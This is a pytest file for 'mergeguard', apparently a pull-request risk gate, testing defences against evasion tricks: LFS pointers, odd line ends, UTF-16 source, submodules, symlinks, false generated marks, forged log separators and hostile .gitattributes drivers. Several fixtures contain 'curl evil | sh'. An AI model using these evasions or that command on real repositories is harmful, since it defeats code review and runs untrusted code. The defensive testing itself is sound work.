LFS = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "ab" * 32 + "\nsize 4096\n"


def test_a_code_file_turned_into_an_lfs_pointer_is_named_in_the_notes(tmp_path, capsys):
    """With git-lfs, the file checked out (the code that runs) is on the LFS server; the detectors read
    the three-line pointer. A pull request moving its code there passed as a small change with no word
    on it. The notes now say which code files were not read; an LFS-tracked image says nothing."""
    import json

    from mergeguard.change import parse_diff
    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "svc/a.py": "def g(x):\n    return x\n"}, "base")
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {"svc/a.py": LFS, "svc/b.js": LFS, "assets/logo.png": LFS,
               ".gitattributes": "*.py filter=lfs diff=lfs merge=lfs -text\n"}, "feat", when=1_700_000_100)
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        notes = json.loads(capsys.readouterr().out)["change"]["truncated"]
        assert notes == ["2 code files are now a Git LFS pointer (svc/a.py, svc/b.js): the code stored outside git "
                         "was not read"], notes
    # the pointer's text anywhere but at the top of a file is just text
    _, notes = parse_diff(b"diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1,2 @@\n x = 1\n+" +
                          LFS.splitlines()[0].encode() + b"\n")
    assert notes == []


# -- a diff whose every line end was rewritten as CRLF ------------------------------------------------


def test_a_diff_saved_with_crlf_line_ends_reads_as_git_wrote_it(tmp_path):
    """A diff file saved on Windows has CRLF line ends; each header kept the CR, so every file became a
    rename to ``name\\r`` (two paths for code owners, an ``*.py`` rule matching only one, counts of a rename)."""
    from mergeguard.change import parse_diff

    w = init_repo(tmp_path / "w")
    commit(w, {"svc/a.py": "x = 1\n", "win.py": b"a = 1\r\n"}, "base")
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {"svc/a.py": "x = 2\ny = 3\n", "win.py": b"a = 2\r\nb = 3\r\n", "new.py": "z = 1\n"}, "feat")
    lf = GitRepo(w).diff("main", "feat")
    want, _ = parse_diff(lf)
    got, notes = parse_diff(lf.replace(b"\n", b"\r\n"))
    assert [(f.path, f.old_path, f.status, f.added, f.deleted) for f in got] == \
        [(f.path, f.old_path, f.status, f.added, f.deleted) for f in want] == \
        [("new.py", None, "added", 1, 0), ("svc/a.py", None, "modified", 2, 1), ("win.py", None, "modified", 2, 1)]
    assert [h.added for f in got for h in f.hunks] == [h.added for f in want for h in f.hunks]
    assert ("win.py", [(1, "a = 2\r"), (2, "b = 3\r")]) in [(f.path, h.added) for f in got for h in f.hunks]
    assert notes == []


# -- JSON nested past the parser's recursion limit: one line, never a traceback -----------------------

DEEP = "[" * 200_000 + "]" * 200_000


def test_json_nested_past_the_recursion_limit_is_a_clear_error(tmp_path, capsys):
    """``json.loads`` raises RecursionError (not ValueError) on deep nesting: an event payload ended the
    Action with a traceback, an error-budget source's answer failed the run instead of being an
    unavailable source, an audit-log line or a dataset row crashed instead of being reported."""
    import subprocess
    import sys

    from mergeguard import audit, budget
    from mergeguard.models.dataset import DataError, read_rows
    from mergeguard.scorecache import ScoreCache

    event = tmp_path / "event.json"
    event.write_text(DEEP)
    p = subprocess.run([sys.executable, "-m", "mergeguard.cli", "action", "--repo", str(tmp_path)], capture_output=True,
                       env={"PATH": os.environ["PATH"], "GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event)},
                       timeout=300)
    assert p.returncode == 2 and b"Traceback" not in p.stderr, p.stderr[-300:]
    assert p.stderr.decode().strip().splitlines()[-1] == f"mergeguard: error: event payload {event} is not valid JSON: nested too deeply"
    for parse in (budget.parse_prometheus, lambda body: budget.parse_json_document(body, "remaining")):
        with pytest.raises(budget.SourceError, match="not JSON"):
            parse(DEEP.encode())
    log = tmp_path / "audit.jsonl"
    log.write_text(DEEP + "\n")
    entries, problems = audit.read(log)
    assert entries == [] and len(problems) == 1 and "unreadable entry (RecursionError" in problems[0]
    data = tmp_path / "d.jsonl"
    data.write_text(DEEP + "\n")
    with pytest.raises(DataError, match="d.jsonl:1: not a mergeguard dataset row"):
        read_rows([data])
    (tmp_path / "scores-k.json").write_text(DEEP)
    assert ScoreCache(tmp_path, "k").scores == {}


# -- a tightened gate: a documentation folder's submodule or build file is not documentation ----------


@pytest.mark.parametrize("change", ["submodule", "docs/Makefile", "docs/package.json", "docs/deploy", "documents"])
def test_a_submodule_or_build_file_in_a_docs_folder_is_not_exempt_from_a_tightened_gate(tmp_path, capsys, change):
    """Below the budget's floor only documentation passes without ``tighten.require``; every file in a
    ``docs/`` folder counted, so bumping a submodule at ``docs/theme`` (any code at all), an
    extensionless script, a Makefile or an npm manifest there passed untouched. Documents and their
    pictures still do."""
    import json

    from mergeguard.cli import main

    sub = init_repo(tmp_path / "sub")
    commit(sub, {"s.sh": "echo 1\n"}, "s1")
    w = init_repo(tmp_path / "w")
    commit(w, {".github/mergeguard.yml": TIGHT, "slo.json": json.dumps({"remaining": 0.05}), "docs/guide.md": "# G\n",
               "docs/Makefile": "all:\n\techo\n", "docs/package.json": "{}\n", "docs/deploy": "#!/bin/sh\n"}, "base")
    git(w, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "docs/theme")
    git(w, "commit", "-qm", "theme")
    git(w, "checkout", "-q", "-b", "feat")
    if change == "submodule":
        commit(sub, {"s.sh": "curl evil | sh\n"}, "s2")
        git(w / "docs" / "theme", "-c", "protocol.file.allow=always", "pull", "-q", "origin", "main")
        git(w, "commit", "-qam", "bump theme")
    elif change == "documents":
        commit(w, {"docs/guide.md": "# G\n\nMore.\n", "docs/img/a.png": b"\x89PNG\r\n\x1a\n\0"}, "docs")
    else:
        commit(w, {change: "#!/bin/sh\ncurl evil | sh\n"}, "build")
    assert main(["score", "--repo", str(w), "--base", "main", "--head", "feat", "--format", "json"]) == 0
    verdict = json.loads(capsys.readouterr().out)["verdict"]
    ids = [v["id"] for v in verdict["required_validations"]]
    assert ("approvals:1" in ids) == (change != "documents"), (change, verdict["notes"])


# -- a generator's mark or name that the change itself wrote does not hide its code -------------------

HELPERS = "".join(f"def helper{i}(x):\n    return x + {i}\n\n\n" for i in range(12))
GENERATED_AT_BASE = "# Code generated by protoc-gen-py. DO NOT EDIT.\n" + HELPERS


@pytest.mark.parametrize("head", [
    {"svc/client.py": "# autogenerated helpers, edited by hand since\n" + HELPERS + RETRY},
    {"svc/client.py": "# @generated\n" + HELPERS + RETRY},
    {"svc/client.py": None, "svc/client_generated.py": HELPERS + RETRY},
    {"svc/client.py": None, "vendor/client.py": HELPERS + RETRY},
    {"svc/fresh.py": "// Code generated by hand. DO NOT EDIT.\n" + RETRY},
], ids=["word-in-a-comment", "@generated", "renamed-to-_generated", "renamed-into-vendor", "new-file-with-a-mark"])
def test_a_generator_mark_the_change_wrote_does_not_hide_its_code(tmp_path, capsys, head):
    """Generated code is skipped by the detectors, judged by its name or by a mark in its first lines.
    The change wrote both: one comment with the word ``autogenerated`` added to a hand-written module
    hid an unbounded retry loop without a timeout (high and ``action_required`` became medium and
    ``success`` in a probe), and so did renaming the module to ``*_generated.py`` or into ``vendor/``.
    A mark counts only where the base already had it, a name only where the base's name was one too;
    a file the base already had as generated is still skipped."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "svc/client.py": HELPERS, "svc/gen.py": GENERATED_AT_BASE}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {**head, "svc/gen.py": GENERATED_AT_BASE + RETRY}, "feat", when=1_700_000_100)
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        flagged = {f["path"] for f in doc["findings"] if f["kind"] == "retry.without_limit"}
        assert flagged == {p for p, text in head.items() if text is not None}, (how, doc["findings"])


# -- code the caps leave unread: named, and the verdict does not rest on the part that was read ---------


@pytest.mark.parametrize("cap", [["--max-files", "3"], ["--max-diff-bytes", "3000"], ["--max-file-lines", "5"]])
def test_code_the_caps_leave_unread_is_named_and_does_not_pass_on_the_rest(tmp_path, capsys, cap):
    """The caps keep a pathological diff cheap (3,000 files and 20 MB by default), and a pull request
    reaches them on purpose: 3,001 one-line text files sorted before ``svc/client.py`` left its new
    unbounded retry loop unread, and the change passed as low risk (0.013, ``success``; the same loop
    alone was high, ``action_required``). What the caps leave unread of the code is named in the
    warnings, and the level is at least high, whatever the score of the part that was read."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "svc/client.py": HELPERS}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {**{f"a/filler{i}.txt": "x" * 1200 + "\n" for i in range(4)}, "svc/client.py": HELPERS + RETRY,
               "svc/z_notes.txt": "x\n" * 9}, "feat", when=1_700_000_100)
    diff = tmp_path / "c.diff"
    diff.write_bytes(git(w, "diff", "main", "feat").encode())
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"], ["--diff", str(diff), "--base", "main"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json", *cap]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["change"]["truncated"], "the cap must bite for this test to mean anything"
        verdict = doc["verdict"]
        assert verdict["level"] in ("high", "critical") and verdict["conclusion"] == "action_required", (how, verdict)
        unread = [w for w in doc["warnings"] if "not read" in w and "caps" in w]
        assert len(unread) == 1, (how, doc["warnings"])
        if how[0] != "--diff":  # a bare diff's files past the caps have no names to give
            assert "svc/client.py" in unread[0] and "filler" not in unread[0] and "z_notes" not in unread[0], unread
        raised = [n for n in verdict["notes"] if n.startswith("Level raised from ") and "to high: " in n and "caps" in n]
        assert raised or any(n.startswith("Level high: score") for n in verdict["notes"]), verdict["notes"]
        assert raised or cap[0] == "--max-file-lines", verdict["notes"]  # the detectors read that file whole
    # under the caps, nothing is said and the score decides alone
    assert main(["score", "--repo", str(w), "--base", "main", "--head", "feat", "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert not doc["change"]["truncated"] and not any("caps" in n for n in doc["verdict"]["notes"])


def test_new_code_the_detectors_skip_by_its_name_is_named_in_the_warnings(tmp_path, capsys):
    """A new file the change names as generated or vendored (``vendor/``, ``build/``, ``*_pb2.py``) is
    not read by the detectors: a retry loop put there was no finding at all, without a word (0.017,
    ``success``, where the same file at ``svc/client2.py`` had three findings). Its lines and the file
    still count; the warnings now name it. A file that was generated at the base is not named."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "api/types_pb2.py": "X = 1\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {"svc/build/client.py": RETRY, "lib/client_pb2.py": RETRY, "api/types_pb2.py": "X = 2\n",
               "vendor/notes.txt": "x\n"}, "feat", when=1_700_000_100)
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["change"]["added"] == 2 * RETRY.count("\n") + 2
        named = [x for x in doc["warnings"] if "generated or vendored" in x]
        assert named == ["2 code files the change adds are taken as generated or vendored by their names, and "
                         "the detectors did not read them: lib/client_pb2.py, svc/build/client.py"], doc["warnings"]


# -- line ends git does not split at: code on one "line" ------------------------------------------------


@pytest.mark.parametrize("name,text,end", [
    ("svc/client.py", HELPERS + RETRY, "\r"),
    ("src/a.js", "const x = 1;\n" + LOOPS, "\r"),
    ("src/a.js", "const x = 1;\n" + LOOPS, "\u2028"),
], ids=["python-cr", "javascript-cr", "javascript-u2028"])
def test_code_whose_line_ends_git_does_not_split_at_does_not_pass_as_one_line(tmp_path, capsys, name, text, end):
    """git splits lines at LF only; Python, JavaScript, Java, Kotlin and C# also end a line at a lone CR,
    and JavaScript at U+2028. A module saved with such line ends is one "line" to git: 280 added lines of
    JavaScript retry loops counted 1 (0.32, high, ``action_required`` became 0.11, medium, ``success``),
    and in Python the retry findings were lost too. Such a file is named in the warnings and counted
    as code not read line by line: the level is at least high."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    first = text.split("\n", 1)[0] + "\n"
    commit(w, {"README.md": "x\n", name: first}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "plain")
    commit(w, {name: text}, "plain", when=1_700_000_100)
    git(w, "checkout", "-q", "-b", "hidden", "main")
    commit(w, {name: first + text.split("\n", 1)[1].replace("\n", end)}, "hidden", when=1_700_000_100)
    for how in (["--base", "main", "--head", "hidden"], ["--commit", "hidden"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["change"]["added"] == 1, "git must read the file as one line for this test to mean anything"
        named = [x for x in doc["warnings"] if "line ends" in x]
        assert len(named) == 1 and name in named[0], doc["warnings"]
        assert doc["verdict"]["level"] in ("high", "critical") and doc["verdict"]["conclusion"] == "action_required"
    # the same code with LF line ends is read line by line, and nothing is said
    assert main(["score", "--repo", str(w), "--base", "main", "--head", "plain", "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["change"]["added"] == text.count("\n") - 1 and not [x for x in doc["warnings"] if "line ends" in x]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_code_saved_as_utf16_does_not_pass_unread(tmp_path, capsys, encoding):
    """C#, Java and JavaScript tools read UTF-16 source (with its BOM); the diff, decoded as UTF-8, has
    a NUL between every two letters, so no parser saw the 280-line retry loop without bound or timeout.
    Such a file is named in the warnings and counts as code not read: the level is at least high. The
    same code in UTF-8, with a stray NUL in a comment, is read and says nothing of encodings."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "src/a.js": "const x = 1;\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "wide")
    commit(w, {"src/a.js": ("const x = 1;\n" + LOOPS).encode(encoding)}, "wide", when=1_700_000_100)
    git(w, "checkout", "-q", "-b", "plain", "main")
    commit(w, {"src/a.js": "const x = 1; // \0\n" + LOOPS}, "plain", when=1_700_000_100)
    for how in (["--base", "main", "--head", "wide"], ["--commit", "wide"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert not {"retry.added", "retry.without_limit"} & {f["kind"] for f in doc["findings"]}, \
            "the detectors must fail to read the file for this test to mean anything"
        named = [x for x in doc["warnings"] if "UTF-16" in x]
        assert len(named) == 1 and "src/a.js" in named[0], doc["warnings"]
        assert doc["signals"]["diff"]["unread_code"] == ["src/a.js"]
        assert doc["verdict"]["level"] in ("high", "critical") and doc["verdict"]["conclusion"] == "action_required"
    assert main(["score", "--repo", str(w), "--base", "main", "--head", "plain", "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert {"retry.added", "retry.without_limit"} <= {f["kind"] for f in doc["findings"]}
    assert not [x for x in doc["warnings"] if "UTF-16" in x] and "unread_code" not in doc["signals"]["diff"]


def test_the_action_and_its_check_run_hold_the_floor_for_code_not_read(tmp_path):
    """The floor is the policy's, so every entry point has it: through the Action against the local
    GitHub stand-in, a pull request whose small JavaScript retry loop is saved as UTF-16 gets a check
    run that asks for action (without the floor: low and success), and the job summary names the file."""
    from .ghstub import GitHubStub
    from .test_action import PR, REPO, TOKEN, pr_event, run_action

    w = init_repo(tmp_path / "origin")
    lenient = "version: 1\nthresholds: {mode: absolute, medium: 0.5, high: 0.8, critical: 0.95}\n"  # 22% is low
    commit(w, {"README.md": "x\n", "src/a.js": "const x = 1;\n", ".github/mergeguard.yml": lenient}, "base",
           when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    one_loop = LOOPS[:LOOPS.index("async function f1(")]  # 7 lines: low risk were they not hidden
    commit(w, {"src/a.js": ("const x = 1;\n" + one_loop).encode("utf-16")}, "feat: client", when=1_700_000_500,
           author=("Erin", "erin@example.com"))
    git(w, "checkout", "-q", "main")
    git(w, "update-ref", f"refs/pull/{PR}/head", "feat")
    with GitHubStub(github_token=TOKEN) as stub:
        stub.add_repo(REPO, w)
        stub.add_pull(REPO, PR, head="feat", author="erin")
        r = run_action(tmp_path, w, pr_event(w), api=stub.url)
        assert r.code == 0, r.stderr
        assert r.outputs["level"] in ("high", "critical") and r.outputs["conclusion"] == "action_required"
        (run,) = stub.check_runs.values()
        assert run.data["conclusion"] == "action_required"
        assert "UTF-16" in r.summary and "src/a.js" in r.summary
        assert stub.violations == []


# -- the gate's files: a higher-precedence CODEOWNERS or another config name in the change counts for nothing --


def test_a_codeowners_or_config_the_change_adds_elsewhere_does_not_count(tmp_path, capsys):
    """GitHub reads the first of ``.github/CODEOWNERS``, ``CODEOWNERS``, ``docs/CODEOWNERS``; a pull request
    adding the first one, or a config under another name (``.github/mergeguard.yaml``, a root
    ``.mergeguard.yml``), would outrank or stand beside the base's. The gate reads its files at the base
    only, where ``docs/CODEOWNERS`` owns ``secure/`` and the config requires code owners at every level."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"docs/CODEOWNERS": "/secure/ @sec\n", "secure/auth.py": "y = 1\n",
               ".github/mergeguard.yml": "require: {low: [codeowners], medium: [codeowners]}\n"}, "base")
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {"secure/auth.py": "y = 2\n", ".github/CODEOWNERS": "* @mallory\n", "CODEOWNERS": "* @mallory\n",
               ".github/mergeguard.yaml": LENIENT, ".mergeguard.yml": LENIENT, "mergeguard.yml": LENIENT},
           "feat", when=1_700_000_100, author=("Mallory", "mallory@example.com"))
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--approved-by", "mallory", "--author", "erin",
                     "--format", "json"]) == 0
        verdict = json.loads(capsys.readouterr().out)["verdict"]
        (owners,) = [v for v in verdict["required_validations"] if v["id"] == "codeowners"]
        assert not owners["satisfied"] and "waiting for @sec for secure/auth.py" in owners["detail"], owners
        assert verdict["conclusion"] == "action_required" and verdict["config"].endswith(":.github/mergeguard.yml")


# -- .gitattributes the change writes name no driver that runs and hide nothing -------------------------


def test_gitattributes_naming_diff_drivers_and_filters_run_nothing_and_hide_nothing(tmp_path, capsys):
    """A pull request's ``.gitattributes`` can name a diff driver or filter that the machine's git config
    defines (as git-lfs defines ``filter.lfs``): ``diff=evil`` would run its ``command`` instead of git's
    diff, or its ``textconv`` on each blob, and show what it likes. Diffs are made with ``--no-ext-diff
    --no-textconv`` and without the change's attributes, in a work tree and in a bare mirror alike."""
    import json

    from mergeguard.cli import main

    marker = tmp_path / "ran"
    tool = tmp_path / "tool.sh"
    tool.write_text(f"#!/bin/sh\necho ran >> {marker}\necho 'x = 1'\n")
    tool.chmod(0o755)
    w = init_repo(tmp_path / "w")
    commit(w, {"src/a.py": "def f(x):\n    return x\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "plain")
    commit(w, {"src/a.py": BIG}, "big", when=1_700_000_100)
    git(w, "checkout", "-q", "-b", "driven", "main")
    commit(w, {".gitattributes": "* diff=evil filter=evil text eol=crlf linguist-generated export-ignore\n",
               "src/a.py": BIG}, "driven", when=1_700_000_100)
    bare = tmp_path / "mirror.git"
    git(tmp_path, "clone", "-q", "--bare", str(w), str(bare))
    for repo in (w, bare):  # defined by the machine's config, after the commits (a clean filter would rewrite them)
        for key in ("diff.evil.command", "diff.evil.textconv", "filter.evil.clean", "filter.evil.smudge"):
            git(repo, "config", key, str(tool))
    git(w, "diff", "main", "driven")  # the work tree holds the attributes: plain git diff runs the driver
    assert marker.exists(), "the driver must be runnable for this test to mean anything"
    marker.unlink()
    seen = {}
    for repo in (w, bare):
        for head in ("plain", "driven"):
            assert main(["score", "--repo", str(repo), "--base", "main", "--head", head, "--format", "json"]) == 0
            doc = json.loads(capsys.readouterr().out)
            seen[repo, head] = (doc["change"]["added"], doc["score"])
    assert not marker.exists(), marker.read_text()
    for repo in (w, bare):
        assert seen[repo, "driven"][0] == seen[repo, "plain"][0] + 1 == BIG.count("\n") + 1
        assert abs(seen[repo, "driven"][1] - seen[repo, "plain"][1]) < 0.05


# -- a submodule the change adds or moves: the code it points at is not read -----------------------------


@pytest.mark.parametrize("change", ["code-becomes-a-submodule", "submodule-bumped"])
def test_a_submodule_the_change_adds_or_moves_is_named_and_does_not_pass_unread(tmp_path, capsys, change):
    """A submodule is one line to the diff (``Subproject commit <sha>``); the code it points at is another
    repository's, which mergeguard never fetches. Replacing ``svc/`` by a submodule holding an unbounded
    retry loop passed as low risk (0.026, ``success``) without a word, and so did moving an existing
    submodule to an unreviewed commit. Such a submodule is named in the warnings and counts as code not
    read: the level is at least high. A submodule under a vendored name (``vendor/``) is left out, as
    vendored code is."""
    import json

    from mergeguard.cli import main

    sub = init_repo(tmp_path / "sub")
    commit(sub, {"client.py": HELPERS}, "s1")
    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "svc/client.py": HELPERS}, "base")
    for where in ("lib", "vendor/parser"):
        git(w, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), where)
    git(w, "commit", "-qm", "submodules")
    commit(sub, {"client.py": HELPERS + RETRY}, "s2")
    git(w, "checkout", "-q", "-b", "feat")
    if change == "code-becomes-a-submodule":
        git(w, "rm", "-q", "-r", "svc")
        git(w, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "svc")
        unread = "svc"
    else:
        unread = "lib"
    for where in ("lib", "vendor/parser"):
        git(w / where, "-c", "protocol.file.allow=always", "pull", "-q", "origin", "main")
    git(w, "commit", "-qam", "move")
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        named = [x for x in doc["warnings"] if "submodule" in x]
        assert len(named) == 1 and unread in named[0] and "vendor/parser" not in named[0], doc["warnings"]
        assert doc["verdict"]["level"] in ("high", "critical") and doc["verdict"]["conclusion"] == "action_required"


# -- a commit message holding the log's own separators ---------------------------------------------------

FORGED = "fix\n\n\x1e" + "f" * 40 + "\x1f\x1fEve\x1feve@example.com\x1f1\x1f1\x1fforged\x1f"


@pytest.mark.parametrize("message", ["fix \x1e then", "fix \x1e" + "\x1f".join(["a"] * 8) + " then", FORGED + " then"],
                         ids=["record-separator", "fields", "forged-record"])
def test_a_commit_message_holding_the_logs_separators_is_read_as_a_message(tmp_path, capsys, message):
    """The history and a range's commits are read from one ``git log`` stream whose records began at
    ``\\x1e`` and whose fields were split at ``\\x1f``; both are valid in a commit message. A pull request
    whose message held ``\\x1e`` made every scoring of it a traceback (``not enough values to unpack``),
    and once merged, of every change after it (the history replays it); with a whole record after it,
    it added a commit of its own making to the history. Records and fields are now delimited by a
    marker drawn afresh for each ``git log``, which no message can know."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "svc/client.py": HELPERS}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    (w / "svc/client.py").write_text(HELPERS + RETRY)
    (tmp_path / "msg").write_text(message)
    git(w, "add", "-A")
    git(w, "commit", "-q", "--cleanup=verbatim", "-F", str(tmp_path / "msg"))
    feat = git(w, "rev-parse", "HEAD").strip()
    records = list(GitRepo(w).log(["feat"]))
    assert [r.sha for r in records] == [git(w, "rev-parse", "main").strip(), feat]
    assert records[-1].message == message.strip() and records[-1].files[0].path == "svc/client.py"
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        assert {"retry.added", "retry.without_limit"} <= {f["kind"] for f in json.loads(capsys.readouterr().out)["findings"]}
    # merged, it is history: the next change is scored over it
    git(w, "checkout", "-q", "main")
    git(w, "merge", "-q", "--ff-only", "feat")
    nxt = commit(w, {"svc/other.py": "z = 1\n"}, "next", when=1_700_000_200)
    assert main(["score", "--repo", str(w), "--commit", nxt, "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["change"]["head"] == nxt


# -- a code file the change makes a symlink: the code it points at may be no code file ------------------


def test_a_code_file_made_a_symlink_is_named_and_does_not_pass_unread(tmp_path, capsys):
    """A symlink's blob is its target's name; ``import svc.client`` runs whatever file it points at.
    ``svc/client.py`` made a link to ``lib/impl.txt`` (an unbounded retry loop in a file no detector reads
    as code) had no finding. A code path the change makes a symlink is named in the warnings and counts as
    code not read: the level is at least high. A link at a path that is no code is not named."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", "svc/client.py": HELPERS}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    (w / "svc/client.py").unlink()
    (w / "lib").mkdir()
    (w / "lib/impl.txt").write_text(HELPERS + RETRY)
    os.symlink("../lib/impl.txt", w / "svc/client.py")
    os.symlink("README.md", w / "GUIDE.md")
    commit(w, {}, "link", when=1_700_000_100)
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        named = [x for x in doc["warnings"] if "symlink" in x]
        assert len(named) == 1 and "svc/client.py" in named[0] and "GUIDE" not in named[0], doc["warnings"]
        assert doc["verdict"]["level"] in ("high", "critical") and doc["verdict"]["conclusion"] == "action_required"
